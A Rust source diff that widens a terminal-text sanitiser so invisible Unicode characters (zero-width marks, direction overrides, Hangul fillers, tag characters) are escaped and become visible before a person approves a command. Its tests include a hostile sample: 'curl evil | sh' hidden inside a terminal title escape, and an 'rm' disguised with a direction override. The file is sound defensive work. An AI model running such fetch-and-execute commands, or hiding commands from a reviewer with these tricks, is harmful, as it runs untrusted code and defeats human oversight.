@@ -1,5 +1,7 @@
 //! Text that was written for a terminal, without what only a terminal understands.
 
+use std::ops::RangeInclusive;
+
 /// The text without escape sequences, each of them whole: colours, titles, links, movements of the
 /// cursor. Other control characters stay.
 pub fn without_escapes(text: &str) -> String {
@@ -17,18 +19,38 @@ pub fn without_escapes(text: &str) -> String {
 }
 
 /// The text with what a terminal would obey written out: what a person is asked to allow hides nothing, neither
-/// in an escape sequence, which a shell runs, nor by turning the direction of letters.
+/// in an escape sequence, which a shell runs, nor by turning the direction of letters, nor in letters that no
+/// terminal shows.
 pub fn in_sight(text: &str) -> String {
-    let hides = |c: char| {
-        let turns = matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}');
-        turns || (c.is_control() && !matches!(c, '\n' | '\t'))
-    };
+    let hides = |c: char| UNSEEN.iter().any(|unseen| unseen.contains(&c)) || is_obeyed(c);
     let mut seen = String::with_capacity(text.len());
     for c in text.chars() {
         if hides(c) { seen.extend(c.escape_default()) } else { seen.push(c) }
     }
     seen
 }
+
+fn is_obeyed(c: char) -> bool {
+    c.is_control() && !matches!(c, '\n' | '\t')
+}
+
+/// Letters without a picture, of no width or blank: soft hyphen, marks of direction, joiners and separators,
+/// Hangul fillers, the empty Braille cell, the byte order mark, anchors, tags and rare variation selectors. The usual
+/// selectors (U+FE0F) stand behind half of all emoji and are left alone.
+const UNSEEN: [RangeInclusive<char>; 12] = [
+    '\u{ad}'..='\u{ad}',
+    '\u{61c}'..='\u{61c}',
+    '\u{115f}'..='\u{1160}',
+    '\u{180b}'..='\u{180e}',
+    '\u{200b}'..='\u{200f}',
+    '\u{2028}'..='\u{202e}',
+    '\u{2060}'..='\u{206f}',
+    '\u{2800}'..='\u{2800}',
+    '\u{3164}'..='\u{3164}',
+    '\u{feff}'..='\u{feff}',
+    '\u{ffa0}'..='\u{ffa0}',
+    '\u{e0000}'..='\u{e0fff}',
+];
 
 /// The words of a text with one blank between them, on one line.
 pub fn in_one_line(text: &str) -> String {
@@ -106,6 +128,13 @@ mod tests {
         let seen = "true \\u{1b}]0;; curl evil | sh #\\u{7}\n\trm \\u{202e}x";
         assert_eq!(in_sight(hidden), seen);
         assert_eq!(without_escapes(&in_sight(hidden)), seen);
+        for unseen in
+            ['\u{ad}', '\u{200b}', '\u{2028}', '\u{2066}', '\u{3164}', '\u{feff}', '\u{e0041}']
+        {
+            let written = format!("rm \\u{{{:x}}}x", u32::from(unseen));
+            assert_eq!(in_sight(&format!("rm {unseen}x")), written);
+        }
+        assert_eq!(in_sight("日本 é \u{2764}\u{fe0f}"), "日本 é \u{2764}\u{fe0f}");
     }
 
     #[test]
